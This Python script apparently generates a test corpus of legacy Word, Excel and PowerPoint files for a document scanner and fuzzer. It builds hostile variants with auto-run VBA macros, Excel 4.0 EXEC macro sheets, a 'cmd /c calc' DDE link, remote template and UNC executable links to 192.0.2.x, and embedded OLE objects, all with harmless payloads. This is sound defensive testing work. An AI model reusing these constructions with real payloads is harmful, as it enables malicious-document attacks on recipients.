#!/usr/bin/env python3
"""Write the Word, Excel and PowerPoint 97-2003 samples (corpus/msoffice/).

Real documents first: LibreOffice converts the OOXML samples of
corpus/office/ (Japanese and English text; DDE, INCLUDE*, LINK and
HYPERLINK fields) to .doc, .xls and .ppt:

  benign-*.doc/.xls/.ppt   LibreOffice's own output, unchanged (fidelity)
  lo-*.doc                 LibreOffice's output of the field samples

Then hostile variants of those, built here: the compound file is read with
Python's olefile and written again by corpus/make-cfb.py's writer (not
Mugai's), with storages and streams added, or BIFF / Word / PowerPoint
records added or changed:

  doc-*  VBA (Macros storage), ObjectPool with Ole10Native and Equation
         Native, encryption (FIB flag, EncryptionInfo), a stale table
         stream, Word 95, a field character the field table does not list,
         an MSI class id
  xls-*  VBA (_VBA_PROJECT_CUR and OBPROJ), Excel 4.0 macro sheets (very
         hidden, visible, VB module, mismatched BOF), Auto_Open names
         (built-in, spelled out, command macro), DDE and external links,
         FILEPASS, embedded objects (MBD storage), BIFF5, hidden bytes
  ppt-*  macro, program and OLE actions, hyperlinks (UNC and https),
         embedded object storage (ExOleObjStg), encryption (Current User,
         CryptSession)

Every command in these samples points at 192.0.2.0/24 or runs calc.

Regenerating needs soffice (libreoffice-*-nogui) for the benign bases; the
hostile variants are made from the committed bases, so
`python3 corpus/make-msoffice.py --variants` needs only Python and olefile
(Debian: python3-olefile).
"""

import importlib.util
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import zlib

try:
    import olefile
except ImportError:  # Debian's package, when another Python runs this
    sys.path.append("/usr/lib/python3/dist-packages")
    import olefile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "msoffice")
SEEDS = os.path.join(HERE, "seeds", "msoffice")

spec = importlib.util.spec_from_file_location("make_cfb", os.path.join(HERE, "make-cfb.py"))
make_cfb = importlib.util.module_from_spec(spec)
spec.loader.exec_module(make_cfb)

SOURCES = {  # corpus/office sample -> base name
    "benign-letter.docx": "benign-letter.doc",
    "benign-report.docx": "benign-report.doc",
    "benign-minutes-pydocx.docx": "benign-minutes.doc",
    "benign-budget.xlsx": "benign-budget.xls",
    "benign-population-openpyxl.xlsx": "benign-population.xls",
    "benign-slides.pptx": "benign-slides.ppt",
    "dde-fields.docx": "lo-dde-fields.doc",
    "include-fields.docx": "lo-include-fields.doc",
    "hyperlinks.docx": "lo-hyperlinks.doc",
}

MSI_CLSID = bytes.fromhex("84100C0000000000C000000000000046")


def convert_bases():
    tmp = tempfile.mkdtemp(prefix="mugai-lo-")
    try:
        profile = "file://" + os.path.join(tmp, "profile")
        for src, dst in SOURCES.items():
            ext = dst.rsplit(".", 1)[1]
            staged = os.path.join(tmp, dst.rsplit(".", 1)[0] + "." + src.rsplit(".", 1)[1])
            shutil.copy(os.path.join(HERE, "office", src), staged)
            subprocess.run(["soffice", f"-env:UserInstallation={profile}", "--headless",
                            "--convert-to", ext, "--outdir", tmp, staged],
                           check=True, capture_output=True, timeout=300)
            shutil.copy(os.path.join(tmp, dst), os.path.join(OUT, dst))
    finally:
        shutil.rmtree(tmp)


# --------------------------------------------------------------------------
# compound files


def guid_bytes(text):
    """olefile's "0002...-...-46" string as the 16 bytes stored in the file."""
    if not text:
        return bytes(16)
    g = text.replace("-", "")
    return (struct.pack("<IHH", int(g[0:8], 16), int(g[8:12], 16), int(g[12:16], 16))
            + bytes.fromhex(g[16:]))


def read_ole(path):
    """(root clsid, [(path tuple, 'd' or 's', data, clsid)]) in olefile's order."""
    o = olefile.OleFileIO(path)
    items = []
    for e in o.listdir(streams=True, storages=True):
        if o.get_type(e) == olefile.STGTY_STORAGE:
            items.append((tuple(e), "d", b"", guid_bytes(o.getclsid(e))))
        else:
            items.append((tuple(e), "s", o.openstream(e).read(), bytes(16)))
    root = guid_bytes(o.root.clsid)
    o.close()
    return root, items


def write_ole(items, root_clsid):
    """items as read_ole gives them (storages before what they hold)."""
    index = {}
    tree = []
    for path, kind, data, clsid in sorted(items, key=lambda x: (len(x[0]), x[1] != "d")):
        parent = index[path[:-1]] if len(path) > 1 else None
        if kind == "d":
            index[path] = len(tree)
        tree.append((path[-1], kind, parent, data, clsid))
    f, _ = make_cfb.build(tree, root_clsid=root_clsid)
    return bytes(f)


def get(items, name):
    for path, kind, data, clsid in items:
        if path == (name,):
            return data
    raise KeyError(name)


def put(items, name, data):
    for i, (path, kind, d, clsid) in enumerate(items):
        if path == (name,):
            items[i] = (path, kind, data, clsid)
            return
    items.append(((name,), "s", data, bytes(16)))


def vba_storage(top, module_source):
    """A VBA project as Office lays it out (contents are plausible, not compiled)."""
    return [
        ((top,), "d", b"", bytes(16)),
        ((top, "VBA"), "d", b"", bytes(16)),
        ((top, "VBA", "dir"), "s", b"\x01" + zlib.compress(b"Attribute VB_Name")[:40], bytes(16)),
        ((top, "VBA", "_VBA_PROJECT"), "s", b"\xcc\x61\xff\xff\x00\x00\x00", bytes(16)),
        ((top, "VBA", "ThisDocument"), "s", module_source, bytes(16)),
        ((top, "PROJECT"), "s", b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'
                                 b"Document=ThisDocument/&H00000000\r\n", bytes(16)),
        ((top, "PROJECTwm"), "s", b"ThisDocument\x00T\x00h\x00i\x00s\x00\x00\x00\x00\x00", bytes(16)),
    ]


MACRO = (b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n"
         b"  Shell \"calc.exe\"\r\nEnd Sub\r\n")


def ole_object(top):
    native = struct.pack("<I", 40) + b"\x02\x00calc.exe\x00C:\\calc.exe\x00" + bytes(8)
    return [
        ((top,), "d", b"", bytes(16)),
        ((top, "_1234567890"), "d", b"", bytes.fromhex("0C00030000000000C000000000000046")),
        ((top, "_1234567890", "\x01Ole10Native"), "s", native, bytes(16)),
        ((top, "_1234567890", "\x01CompObj"), "s", b"\x01\x00\xfe\xff" + bytes(24), bytes(16)),
        ((top, "_1234567890", "\x03ObjInfo"), "s", b"\x00\x00\x03\x00\x01\x00", bytes(16)),
        ((top, "_1234567891"), "d", b"", bytes.fromhex("02CE020000000000C000000000000046")),
        ((top, "_1234567891", "Equation Native"), "s", b"\x1c\x00" + bytes(26) + b"\x08" * 40,
         bytes(16)),
    ]


# --------------------------------------------------------------------------
# Word


def word_variants(out):
    base = os.path.join(OUT, "benign-letter.doc")
    root, items = read_ole(base)
    out["doc-vba.doc"] = write_ole(items + vba_storage("Macros", MACRO), root)
    out["doc-objectpool.doc"] = write_ole(items + ole_object("ObjectPool"), root)
    wd = bytearray(get(items, "WordDocument"))
    enc = list(items)
    wd2 = bytearray(wd)
    struct.pack_into("<H", wd2, 0x0A, struct.unpack_from("<H", wd2, 0x0A)[0] | 0x0100)
    put(enc, "WordDocument", bytes(wd2))
    out["doc-encrypted-fib.doc"] = write_ole(enc, root)
    out["doc-encryptioninfo.doc"] = write_ole(
        items + [(("EncryptionInfo",), "s", b"\x04\x00\x04\x00\x40\x00\x00\x00" + bytes(64),
                  bytes(16))], root)
    table = get(items, "1Table")
    out["doc-stale-table.doc"] = write_ole(
        items + [(("0Table",), "s", table[:512] + b"MUGAI-STALE-TABLE", bytes(16))], root)
    old = list(items)
    wd3 = bytearray(wd)
    struct.pack_into("<H", wd3, 2, 0x68)  # Word 95
    put(old, "WordDocument", bytes(wd3))
    out["doc-word95.doc"] = write_ole(old, root)
    # One text character turned into a field begin the field table does not list.
    unl = list(items)
    wd4 = bytearray(wd)
    text_at, compressed = first_text_byte(wd, table)
    wd4[text_at] = 0x13
    if not compressed:
        wd4[text_at + 1] = 0
    put(unl, "WordDocument", bytes(wd4))
    out["doc-field-unlisted.doc"] = write_ole(unl, root)
    out["doc-msi-clsid.doc"] = write_ole(items, MSI_CLSID)
    # A remote attached template (SttbfAssoc string 1), appended to the table stream.
    strings = ["", "\\\\192.0.2.1\\share\\MUGAI-template.dot", "", "", "", "", "", "", "",
               "", "", "", "", "", "", "", "", ""]
    sttb = struct.pack("<HHH", 0xFFFF, len(strings), 0) + b"".join(
        struct.pack("<H", len(x)) + x.encode("utf-16-le") for x in strings)
    tmpl = list(items)
    wd5 = bytearray(wd)
    fcl = fib_fclcb(wd)
    struct.pack_into("<II", wd5, fcl + 8 * 32, len(table), len(sttb))
    put(tmpl, "WordDocument", bytes(wd5))
    put(tmpl, "1Table", table + sttb)
    out["doc-remote-template.doc"] = write_ole(tmpl, root)
    # A Word document that also holds Ichitaro streams stays a Word document.
    out["doc-jsrv-streams.doc"] = write_ole(
        items + [(("JSRV_SegmentList",), "s", b"MUGAI-JSRV" * 8, bytes(16))], root)


def fib_fclcb(wd):
    """Offset of FibRgFcLcb97 in the FIB."""
    csw = struct.unpack_from("<H", wd, 0x20)[0]
    cslw = struct.unpack_from("<H", wd, 0x22 + csw * 2)[0]
    return 0x22 + csw * 2 + 2 + cslw * 4 + 2


def first_text_byte(wd, table):
    """Offset in WordDocument of the first text character, and whether it is 8-bit."""
    csw = struct.unpack_from("<H", wd, 0x20)[0]
    cslw = struct.unpack_from("<H", wd, 0x22 + csw * 2)[0]
    fcl = 0x22 + csw * 2 + 2 + cslw * 4 + 2
    fc, lcb = struct.unpack_from("<II", wd, fcl + 8 * 33)
    clx = table[fc:fc + lcb]
    i = 0
    while clx[i] == 1:
        i += 3 + struct.unpack_from("<h", clx, i + 1)[0]
    n = (struct.unpack_from("<I", clx, i + 1)[0] - 4) // 12
    pcd = i + 5 + 4 * (n + 1)
    f = struct.unpack_from("<I", clx, pcd + 2)[0]
    if f & 0x40000000:
        return (f & 0x3FFFFFFF) // 2, True
    return f & 0x3FFFFFFF, False


# --------------------------------------------------------------------------
# Excel (BIFF8)


def rec(t, d):
    return {"t": t, "d": bytes(d), "old": None}


def biff_records(data):
    out, i = [], 0
    while i + 4 <= len(data):
        t, ln = struct.unpack_from("<HH", data, i)
        if t == 0 and ln == 0 and not any(data[i:]):
            break
        out.append({"t": t, "d": data[i + 4:i + 4 + ln], "old": i})
        i += 4 + ln
    return out


def biff_split(recs):
    subs, cur, depth = [], [], 0
    for r in recs:
        cur.append(r)
        if r["t"] == 0x0809:
            depth += 1
        elif r["t"] == 0x000A:
            depth -= 1
            if depth == 0:
                subs.append(cur)
                cur = []
    return subs[0], subs[1:]


def biff_join(glob, sheets, pad=True):
    """Lay out globals then sheets; BOUNDSHEET i points at sheet i; EXTSST follows its SST."""
    bs = [r for r in glob if r["t"] == 0x85]
    assert len(bs) == len(sheets), (len(bs), len(sheets))
    def flat(recs, start):
        out, pos = b"", start
        for r in recs:
            r["new"] = pos
            out += struct.pack("<HH", r["t"], len(r["d"])) + r["d"]
            pos += 4 + len(r["d"])
        return out
    g = flat(glob, 0)
    pos = len(g)
    bodies = []
    for s in sheets:
        bodies.append(flat(s, pos))
        pos += len(bodies[-1])
    for r, s in zip(bs, sheets):
        r["d"] = struct.pack("<I", s[0]["new"]) + r["d"][4:]
    for r in glob:
        if r["t"] == 0x00FF:  # EXTSST: positions inside SST / CONTINUE records
            d = bytearray(r["d"])
            for k in range(2, len(d) - 7, 8):
                ib = struct.unpack_from("<I", d, k)[0]
                for x in glob:
                    if x["old"] is not None and x["old"] <= ib < x["old"] + 4 + len(x["d"]):
                        struct.pack_into("<I", d, k, x["new"] + ib - x["old"])
            r["d"] = bytes(d)
    data = flat(glob, 0) + b"".join(flat(s, s[0]["new"]) for s in sheets)
    if pad and len(data) < 4096:
        data += bytes(4096 - len(data))
    return data


def boundsheet(name, hs, dt):
    raw = name.encode("utf-16-le")
    return rec(0x85, struct.pack("<IBBBB", 0, hs, dt, len(name), 1) + raw)


def bof(glob, dt):
    d = bytearray(glob[0]["d"])
    struct.pack_into("<H", d, 2, dt)
    return rec(0x0809, d)


def formula_cell(row, col, rgce):
    return rec(0x0006, struct.pack("<HHH", row, col, 15) + bytes(8) + struct.pack("<HIH", 0, 0,
                                                                                  len(rgce)) + rgce)


def ptg_str(s):
    return b"\x17" + struct.pack("<BB", len(s), 0) + s.encode("latin-1")


def macro_sheet(glob, dt=0x40):
    exec_calc = ptg_str("calc.exe") + b"\x42\x01\x6e\x00"  # EXEC("calc.exe")
    halt = b"\x42\x00\x36\x00"  # HALT()
    return [bof(glob, dt), rec(0x0200, bytes(14)), formula_cell(0, 0, exec_calc),
            formula_cell(1, 0, halt), rec(0x023E, struct.pack("<HHHH", 0xB6, 0, 0, 64) + bytes(10)),
            rec(0x000A, b"")]


def name_rec(flags, name, rgce, builtin=False, itab=0):
    if builtin:
        raw, cch = bytes([name]), 1
    else:
        raw, cch = name.encode("latin-1"), len(name)
    return rec(0x18, struct.pack("<HBBHHH", flags, 0, cch, len(rgce), 0, itab) + bytes(4)
               + b"\x00" + raw + rgce)


def ref3d(ixti, row, col):
    return b"\x3a" + struct.pack("<HHH", ixti, row, col)


def insert_before(glob, types, new):
    """Insert records before the first record of one of types (else before EOF)."""
    for i, r in enumerate(glob):
        if r["t"] in types:
            glob[i:i] = new
            return
    glob[-1:-1] = new


def link_records(nsheets, macro_index, extra_supbooks=()):
    sup = [rec(0x01AE, struct.pack("<HH", nsheets, 0x0401))] + list(extra_supbooks)
    xti = struct.pack("<H", 2) + struct.pack("<HHH", 0, macro_index, macro_index) \
        + struct.pack("<HHH", 0, 0, 0)
    return sup + [rec(0x0017, xti)]


def excel_variants(out):
    base = os.path.join(OUT, "benign-budget.xls")
    root, items = read_ole(base)
    wb = get(items, "Workbook")

    def variant(change, extra_items=(), stream="Workbook"):
        glob, sheets = biff_split(biff_records(wb))
        glob = [dict(r) for r in glob]
        sheets = [[dict(r) for r in s] for s in sheets]
        change(glob, sheets)
        its = [i for i in items if i[0] != ("Workbook",)]
        its.append(((stream,), "s", biff_join(glob, sheets), bytes(16)))
        return write_ole(its + list(extra_items), root)

    def add_macro_sheet(glob, sheets, hs, dt, bof_dt, sheet_name, names):
        idx = len(sheets)
        last_bs = max(i for i, r in enumerate(glob) if r["t"] == 0x85)
        glob.insert(last_bs + 1, boundsheet(sheet_name, hs, dt))
        sheets.append(macro_sheet(glob, bof_dt))
        insert_before(glob, (0x00EB, 0x00FC), link_records(len(sheets), idx) + names)

    total = name_rec(0, "Total", ref3d(1, 0, 0))  # an ordinary name; keeps its index
    auto = name_rec(0x0021, 0x01, ref3d(0, 0, 0), builtin=True)  # hidden built-in Auto_Open
    out["xls-macrosheet.xls"] = variant(
        lambda g, s: add_macro_sheet(g, s, 2, 1, 0x40, "Macro1", [total, auto]))
    spelled = name_rec(0x0000, "auto_open_MUGAI", ref3d(0, 0, 0))
    proc = name_rec(0x0008, "Run_MUGAI", ref3d(0, 0, 0))
    out["xls-macrosheet-visible.xls"] = variant(
        lambda g, s: add_macro_sheet(g, s, 0, 1, 0x40, "マクロ", [spelled, proc]))
    out["xls-vbmodule.xls"] = variant(
        lambda g, s: add_macro_sheet(g, s, 1, 6, 0x10, "Module1", []))
    out["xls-bof-macro.xls"] = variant(
        lambda g, s: add_macro_sheet(g, s, 0, 0, 0x40, "Sheet9", [
            name_rec(0x0020, 0x0B, ref3d(0, 0, 0), builtin=True)]))  # Auto_Deactivate

    def vba(g, s):
        insert_before(g, (0x0085,), [rec(0x00D3, b""), rec(0x01BA, b"\x0c\x00\x00ThisWorkbook")])
    out["xls-vba.xls"] = variant(vba, vba_storage("_VBA_PROJECT_CUR", MACRO))

    def dde(g, s):
        path = "cmd\x03/c calc"
        sup = rec(0x01AE, struct.pack("<HHB", 0, len(path), 0) + path.encode("latin-1"))
        en = rec(0x0023, struct.pack("<HI", 0, 0) + b"\x02\x00A0" + struct.pack("<H", 0))
        insert_before(g, (0x00EB, 0x00FC), [rec(0x01AE, struct.pack("<HH", len(s), 0x0401)),
                                            sup, en])
    out["xls-dde.xls"] = variant(dde)

    def external(g, s):
        path = "\x01\x01\\\\192.0.2.1\\share\\予算.xls"
        raw = path.encode("utf-16-le")
        sup = rec(0x01AE, struct.pack("<HHB", 1, len(path), 1) + raw
                  + struct.pack("<HB", 6, 0) + b"Sheet1")
        insert_before(g, (0x00EB, 0x00FC), [rec(0x01AE, struct.pack("<HH", len(s), 0x0401)), sup])
    out["xls-external-link.xls"] = variant(external)

    def filepass(g, s):
        g.insert(1, rec(0x002F, struct.pack("<HHH", 1, 1, 1) + bytes(48)))
    out["xls-filepass.xls"] = variant(filepass)

    out["xls-mbd-object.xls"] = variant(lambda g, s: None, ole_object("MBD0046A1B2")[0:1] + [
        (("MBD0046A1B2", "\x01Ole10Native"), "s", b"\x20\x00\x00\x00calc.exe" + bytes(24),
         bytes(16))])
    out["xls-biff5-book.xls"] = variant(lambda g, s: None, stream="Book")

    def gap(g, s):
        s[0].insert(0, {"t": 0x1234, "d": b"MUGAI-HIDDEN", "old": None})
    # A record before the first sheet's BOF: outside every substream.
    glob, sheets = biff_split(biff_records(wb))
    data = bytearray(biff_join([dict(r) for r in glob], [[dict(r) for r in x] for x in sheets]))
    hidden = struct.pack("<HH", 0x1234, 12) + b"MUGAI-HIDDEN"
    end_glob = sum(4 + len(r["d"]) for r in glob)
    data[end_glob:end_glob] = hidden
    # every lbPlyPos moves with the sheets
    p = 0
    while p < end_glob:
        t, ln = struct.unpack_from("<HH", data, p)
        if t == 0x85:
            struct.pack_into("<I", data, p + 4, struct.unpack_from("<I", data, p + 4)[0] + 16)
        p += 4 + ln
    its = [i for i in items if i[0] != ("Workbook",)] + [(("Workbook",), "s", bytes(data),
                                                          bytes(16))]
    out["xls-hidden-bytes.xls"] = write_ole(its, root)


# --------------------------------------------------------------------------
# PowerPoint


def prec(ver_inst, typ, body):
    return struct.pack("<HHI", ver_inst, typ, len(body)) + body


def cstring(inst, s):
    return prec(inst << 4, 0x0FBA, s.encode("utf-16-le"))


def interactive(action, name="", link=0):
    atom = prec(0, 0x0FF3, struct.pack("<IIBBBBB3x", 0, link, action, 0, 0, 0, 0))
    body = atom + (cstring(2, name) if name else b"")
    return prec(0x000F, 0x0FF2, body)


def hyperlink(ident, target):
    body = prec(0, 0x0FD3, struct.pack("<I", ident)) + cstring(0, "click") + cstring(1, target)
    return prec(0x000F, 0x0FD7, body)


def ppt_variants(out):
    base = os.path.join(OUT, "benign-slides.ppt")
    root, items = read_ole(base)
    # Without its 430 KB thumbnail, so that the samples stay small.
    items = [i for i in items if i[0] != ("\x05SummaryInformation",)]
    doc = get(items, "PowerPoint Document")

    def variant(extra, cur=None):
        its = list(items)
        put(its, "PowerPoint Document", doc + extra)
        if cur is not None:
            put(its, "Current User", cur)
        return write_ole(its, root)

    actions = (hyperlink(7, "\\\\192.0.2.1\\share\\x.exe") + hyperlink(8, "https://www.example.jp/")
               + prec(0x000F, 0x03F0, interactive(2, "calc.exe") + interactive(1, "AutoOpen_MUGAI")
                      + interactive(5) + interactive(4, link=7) + interactive(4, link=8)))
    out["ppt-actions.ppt"] = variant(actions)
    # The same behind twenty harmless records in each container.
    filler = b"".join(cstring(0, "filler %d" % i) for i in range(20))
    deep_link = prec(0x000F, 0x0FD7, prec(0, 0x0FD3, struct.pack("<I", 9)) + filler
                     + cstring(1, "\\\\192.0.2.2\\share\\y.exe"))
    deep_action = prec(0x000F, 0x0FF2, filler + prec(0, 0x0FF3, struct.pack(
        "<IIBBBBB3x", 0, 0, 2, 0, 0, 0, 0)) + cstring(2, "calc.exe"))
    out["ppt-actions-many.ppt"] = variant(deep_link + prec(0x000F, 0x03F0, deep_action))
    storage = zlib.compress(make_cfb.build([("\x01Ole10Native", "s", None, b"calc.exe" * 4,
                                             None)])[0])
    out["ppt-olestg.ppt"] = variant(prec(0x0012, 0x1011, struct.pack("<I", 1536) + storage))
    out["ppt-cryptsession.ppt"] = variant(prec(0x000F, 0x2F14, prec(0, 0x2F15, bytes(40))))
    cur = bytearray(get(items, "Current User"))
    struct.pack_into("<I", cur, 12, 0xF3D1C4DF)
    out["ppt-encrypted.ppt"] = variant(b"", bytes(cur))


def raw_seed(path, name):
    """The main stream alone, as fuzz/fuzz_msoffice.c takes it: an application
    byte (0 Excel, 1 PowerPoint, 2 Word), then the stream (for Word, the
    length of WordDocument, WordDocument, then the table stream)."""
    try:
        o = olefile.OleFileIO(path)
    except OSError:
        return
    seed = None
    if o.exists("Workbook"):
        seed = b"\x00" + o.openstream("Workbook").read()
    elif o.exists("PowerPoint Document"):
        seed = b"\x01" + o.openstream("PowerPoint Document").read()
    elif o.exists("WordDocument") and (o.exists("1Table") or o.exists("0Table")):
        wd = o.openstream("WordDocument").read()
        tb = o.openstream("1Table" if o.exists("1Table") else "0Table").read()
        seed = b"\x02" + struct.pack("<I", len(wd)) + wd + tb
    o.close()
    if seed is not None and len(seed) < 64 * 1024:
        with open(os.path.join(SEEDS, "raw-" + name.rsplit(".", 1)[0] + ".bin"), "wb") as fh:
            fh.write(seed)


def main():
    os.makedirs(OUT, exist_ok=True)
    if "--variants" not in sys.argv:
        convert_bases()
    out = {}
    word_variants(out)
    excel_variants(out)
    ppt_variants(out)
    for name, data in sorted(out.items()):
        with open(os.path.join(OUT, name), "wb") as fh:
            fh.write(data)
    if os.path.isdir(SEEDS):
        for f in os.listdir(SEEDS):
            if not f.startswith("crash-"):
                os.remove(os.path.join(SEEDS, f))
    os.makedirs(SEEDS, exist_ok=True)
    for name in sorted(os.listdir(OUT)):
        path = os.path.join(OUT, name)
        if os.path.getsize(path) < 64 * 1024:
            shutil.copy(path, os.path.join(SEEDS, name))
        raw_seed(path, name)
    print(f"wrote {len(os.listdir(OUT))} files into {OUT}")


if __name__ == "__main__":
    main()
